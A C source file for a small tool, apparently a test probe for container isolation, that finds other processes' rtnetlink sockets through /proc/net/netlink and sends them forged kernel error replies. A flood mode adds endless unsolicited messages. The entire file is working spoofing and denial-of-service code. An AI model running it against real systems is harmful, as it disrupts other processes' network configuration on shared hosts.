/*
 * A process in a pod, with CAP_NET_ADMIN there, that talks to other processes' rtnetlink sockets in its namespace: it
 * reads their port ids from /proc/net/netlink, as anybody can, and sends them forged answers of the kernel.
 *
 *   netlink-intruder once     a forged refusal of requests 1 to 50 to each socket; prints "<port> <what came of it>"
 *   netlink-intruder flood    the same, and a thousand messages that answer nothing, until it is killed; prints "floods"
 */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/netlink.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { MAX_PORTS = 256, FORGED_REQUESTS = 50, NOISE = 1000 };

/* The port ids of all rtnetlink sockets of the namespace but the kernel's and our own. */
static int find_ports(unsigned own, unsigned ports[MAX_PORTS]) {
  FILE *file = fopen("/proc/net/netlink", "r");
  char line[256];
  int count = 0, protocol;
  unsigned port;
  while (file != NULL && fgets(line, sizeof line, file) != NULL && count < MAX_PORTS)
    if (sscanf(line, "%*s %d %u", &protocol, &port) == 2 && protocol == NETLINK_ROUTE && port != 0 && port != own)
      ports[count++] = port;
  if (file != NULL) fclose(file);
  return count;
}

static int send_to(int fd, unsigned port, unsigned seq) {
  struct {
    struct nlmsghdr header;
    struct nlmsgerr error;
  } message = {
      .header = {.nlmsg_len = sizeof message, .nlmsg_type = NLMSG_ERROR, .nlmsg_seq = seq},
      .error = {.error = -EPERM, .msg = {.nlmsg_len = sizeof(struct nlmsghdr), .nlmsg_seq = seq}},
  };
  const struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = port};
  return sendto(fd, &message, sizeof message, MSG_DONTWAIT, (const struct sockaddr *)&to, sizeof to) < 0 ? errno : 0;
}

int main(int argc, char **argv) {
  const bool floods = argc > 1 && strcmp(argv[1], "flood") == 0;
  const int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  struct sockaddr_nl own = {.nl_family = AF_NETLINK};
  socklen_t length = sizeof own;
  if (fd < 0 || bind(fd, (struct sockaddr *)&own, sizeof own) != 0 ||
      getsockname(fd, (struct sockaddr *)&own, &length) != 0) {
    perror("netlink-intruder");
    return 1;
  }
  if (floods) puts("floods");
  fflush(stdout);
  do {
    unsigned ports[MAX_PORTS];
    const int count = find_ports(own.nl_pid, ports);
    for (int i = 0; i < count; i++) {
      int failure = 0;
      for (unsigned seq = 1; seq <= FORGED_REQUESTS && failure == 0; seq++) failure = send_to(fd, ports[i], seq);
      for (int n = 0; floods && n < NOISE && failure == 0; n++) failure = send_to(fd, ports[i], 0);
      if (!floods) printf("%u %s\n", ports[i], failure == 0 ? "sent" : strerrorname_np(failure));
    }
  } while (floods);
  return 0;
}
